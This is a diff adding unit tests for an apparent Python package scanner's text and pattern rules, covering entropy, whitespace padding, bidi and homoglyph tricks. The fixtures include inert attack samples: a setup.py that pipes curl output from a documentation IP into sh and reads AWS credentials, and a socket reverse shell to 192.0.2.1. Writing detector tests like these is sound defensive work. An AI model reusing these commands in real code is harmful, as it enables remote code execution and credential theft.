@@ -1,0 +1,159 @@
+"""Text statistics, the pattern fallback and `.pth` rules: inert samples and benign look-alikes."""
+
+from __future__ import annotations
+
+import base64
+import random
+
+from pycustoms.analyzers.code.context import ExecContext
+from pycustoms.analyzers.code.text_rules import (
+    RULES,
+    exec_file_targets,
+    fallback_python,
+    find_blobs,
+    pth_imported_modules,
+    shannon_entropy,
+    text_stats,
+)
+from pycustoms.types import Capability, Severity
+
+MODULE = ExecContext.MODULE
+INSTALL = ExecContext.INSTALL
+
+
+def _rules(report_findings: object) -> set[str]:
+    return {f.rule for f in report_findings}  # type: ignore[attr-defined]
+
+
+def _random_b64(n: int, seed: int = 7) -> str:
+    return base64.b64encode(random.Random(seed).randbytes(n)).decode()
+
+
+def test_every_rule_id_is_namespaced_and_unique() -> None:
+    ids = [r.id for r in RULES]
+    assert len(ids) == len(set(ids))
+    assert all(i.startswith("code/") for i in ids)
+
+
+def test_entropy_of_uniform_and_constant_text() -> None:
+    assert shannon_entropy("") == 0.0
+    assert shannon_entropy("aaaa") == 0.0
+    assert abs(shannon_entropy("abcd") - 2.0) < 1e-9
+
+
+def test_random_base64_blob_is_flagged_in_python() -> None:
+    source = f'PAYLOAD = "{_random_b64(4000)}"\n'
+    report = text_stats("pkg/mod.py", source, MODULE)
+    (finding,) = [f for f in report.findings if f.rule == "code/high-entropy-blob"]
+    assert finding.line == 1
+    assert finding.severity is Severity.MEDIUM  # over 4096 characters: a big blob
+
+
+def test_blob_in_setup_py_gains_severity() -> None:
+    source = f'x = "{_random_b64(600)}"\n'
+    assert text_stats("setup.py", source, INSTALL).findings[0].severity is Severity.MEDIUM
+    assert text_stats("pkg/m.py", source, MODULE).findings[0].severity is Severity.LOW
+
+
+def test_low_entropy_runs_and_tables_are_not_blobs() -> None:
+    table = "A" * 400 + "\n" + "0123456789" * 50 + "\n" + "ab/cd/" * 100
+    assert not text_stats("pkg/t.py", table, MODULE).findings
+    assert all(not b.suspicious for b in find_blobs(table))
+
+
+def test_long_lines_only_in_python() -> None:
+    minified = "var a=function(){return 1};" * 1000
+    assert not text_stats("pkg/static/app.min.js", minified, ExecContext.DATA).findings
+    packed = "exec(" + "x=1;" * 2000 + ")"
+    rules = _rules(text_stats("pkg/m.py", packed, MODULE).findings)
+    assert "code/long-line" in rules
+
+
+def test_code_hidden_by_whitespace_padding() -> None:
+    source = "import os" + " " * 400 + "os.system('id')\n"
+    findings = text_stats("setup.py", source, INSTALL).findings
+    assert "code/whitespace-padding" in _rules(findings)
+    assert not text_stats("m.py", "x = 1  # " + " " * 400 + "note\n", MODULE).findings
+
+
+def test_bidi_control_in_code() -> None:
+    source = 'access = "user\u202e \u2066# check if admin\u2069 \u2066"\n'
+    assert "code/bidi-control" in _rules(text_stats("m.py", source, MODULE).findings)
+
+
+def test_zero_width_between_ascii_letters_but_not_persian_or_bom() -> None:
+    hidden = "pri\u200bnt = 1\n"
+    assert "code/zero-width-char" in _rules(text_stats("m.py", hidden, MODULE).findings)
+    persian = 'WORDS = ["\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"]\n'
+    assert not text_stats("faker/fa.py", persian, MODULE).findings
+    bom = "\ufeffimport os\nSTRIP = '\ufeff'\n"
+    assert not text_stats("m.py", bom, MODULE).findings
+
+
+def test_homoglyph_identifier_not_greek_science_or_comments() -> None:
+    spoof = "print 1\n\u0435x\u0435c = getattr(__builtins__, 'exec')\n"  # Cyrillic е
+    assert "code/unicode-identifier" in _rules(fallback_python("m.py", spoof, MODULE).findings)
+    science = "\u0394t = 0.1\n\u03c3_x = 2 * \u0394t\n"  # Δt, σ_x
+    assert not fallback_python("m.py", science, MODULE).findings
+    hello = "\u043f\u0440\u0438\u0432\u0435\u0442"
+    russian = f"# {hello} world\nmsg = '{hello}'\n"
+    assert not fallback_python("m.py", russian, MODULE).findings
+
+
+PY2_SETUP = """\
+import os, base64, urllib2
+from distutils.core import setup
+print "installing"
+exec base64.b64decode("cHJpbnQoJ2luZXJ0Jyk=")
+os.system("curl -s http://198.51.100.7/x.sh | sh")
+data = urllib2.urlopen("http://198.51.100.7/c").read()
+open(os.path.expanduser("~/.aws/credentials")).read()
+setup(name="demo", version="1.0")
+"""
+
+
+def test_fallback_catches_python2_setup_payload() -> None:
+    report = fallback_python("setup.py", PY2_SETUP, INSTALL)
+    rules = {f.rule: f for f in report.findings}
+    assert rules["code/exec-decoded-payload"].severity is Severity.CRITICAL
+    assert rules["code/exec-decoded-payload"].line == 4
+    assert rules["code/download-command"].severity is Severity.CRITICAL
+    assert rules["code/install-time-network"].severity is Severity.HIGH
+    assert "code/credential-file-access" in rules
+    assert {Capability.NETWORK, Capability.PROCESS, Capability.CREDENTIAL_READ} <= (
+        report.capabilities
+    )
+
+
+def test_fallback_is_quiet_on_plain_python2_code() -> None:
+    source = 'import os\nprint "hello"\nos.environ.get("HOME")\ndef f(x):\n    print x\n'
+    report = fallback_python("pkg/old.py", source, MODULE)
+    assert not report.findings
+    assert report.capabilities == {Capability.ENV_READ}
+
+
+def test_fallback_env_dump_and_reverse_shell() -> None:
+    source = (
+        "import socket, os, pty, json\n"
+        "print json.dumps(dict(os.environ))\n"
+        "s = socket.socket(); s.connect(('192.0.2.1', 4444))\n"
+        "os.dup2(s.fileno(), 0)\n"
+        "pty.spawn('/bin/sh')\n"
+    )
+    rules = _rules(fallback_python("pkg/x.py", source, MODULE).findings)
+    assert {"code/environment-dump", "code/reverse-shell"} <= rules
+
+
+def test_exec_file_targets() -> None:
+    source = "exec(open('pkg/data.txt').read())\nexecfile('version.py')\n"
+    assert list(exec_file_targets(source)) == [(1, "pkg/data.txt"), (2, "version.py")]
+    report = fallback_python("setup.py", "print 'x'\n" + source, INSTALL)
+    assert "code/exec-file-content" in _rules(report.findings)
+
+
+def test_pth_imported_modules() -> None:
+    assert pth_imported_modules("import a.b, c; __import__('d').go()\n/some/path\n") == {
+        "a",
+        "c",
+        "d",
+    }
